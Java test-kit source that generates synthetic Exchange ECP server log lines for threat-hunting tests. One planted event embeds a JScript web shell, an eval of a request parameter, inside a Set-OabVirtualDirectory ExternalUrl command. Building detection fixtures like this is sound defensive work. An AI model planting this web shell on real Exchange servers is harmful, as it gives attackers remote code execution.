package org.exhunt.testkit.logs;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.SplittableRandom;

/** ECP Server logs ({@code Logging/ECP/Server}): one line per ECP request, EventData as {@code S:KEY=value} pairs. */
final class EcpServerDialect extends ExchangeCsvDialect {

    private static final String[] COMMANDS = {"Get-InboxRule", "Get-Mailbox", "Get-MailboxRegionalConfiguration",
        "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null", "Pipeline.1|Get-MailboxRegionalConfiguration",
        "Get-ExchangeServer.Identity=''EX01''", "Get-RecipientPermission"};

    EcpServerDialect(String server, String build) {
        super("ECP Server Log", List.of("TimeStamp", "ServerName", "EventId", "EventData"), server, build, false);
    }

    /** ECP writes a placeholder version; its EventData's BLD is the build. */
    @Override
    protected String headerVersion() {
        return "15.0.0.0";
    }

    @Override
    public void line(LineBuffer b, long time, SplittableRandom r) {
        String cmd = Traffic.pick(COMMANDS, r);
        write(b, time, r, cmd.contains("'") ? "'S:CMD=" + cmd.replace("'", "''") + "'" : "S:CMD=" + cmd,
                "/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=xkcd");
    }

    @Override
    public boolean planted(LineBuffer b, long time, PlantedEvent event) {
        if (event instanceof PlantedEvent.EcpCommand e) {
            String pair = "S:CMD=" + e.command();
            boolean quote = e.command().indexOf('\'') >= 0 || e.command().indexOf(';') >= 0;
            write(b, time, new SplittableRandom(time), quote ? "'" + pair.replace("'", "''") + "'" : pair, e.url());
            return true;
        }
        if (!(event instanceof PlantedEvent.OabWebShellWrite)) return false;
        String shell = "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"exhunt\"],\"unsafe\");}</script>";
        String cmd = "Set-OabVirtualDirectory.ExternalUrl='" + shell + "'.Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'";
        write(b, time, new SplittableRandom(time), "'S:CMD=" + cmd.replace("'", "''") + "'",
                "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=M1xS&schema=OABVirtualDirectory");
        return true;
    }

    @Override
    public String serverPath(long time) {
        return "Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/ECPServer"
                + Clock.yyyyMMddHH(time).substring(0, 8) + "-1.LOG";
    }

    private void write(LineBuffer b, long time, SplittableRandom r, String cmdPair, String url) {
        Clock.iso(b, time);
        b.ch(',').ascii(server).ascii(",ECP.Request,");
        LineBuffer data = new LineBuffer();
        data.ascii("S:TIME=").num(5 + r.nextInt(200)).ascii(";S:SID=");
        Traffic.guid(data, r);
        data.ch(';').utf8(cmdPair).ascii(";S:REQID=;S:URL=").ascii(url).ascii(";S:REFERRER=;S:EX=;S:ACTID=");
        Traffic.guid(data, r);
        data.ascii(";S:RS=0;S:BLD=").ascii(build).ascii(";S:TNAME=<null>;S:TID=;S:USID=");
        Traffic.guid(data, r);
        data.ascii(";S:EDOID=;S:ACID=");
        csv(b, new String(data.bytes, 0, data.length, StandardCharsets.UTF_8)).crlf();
    }
}
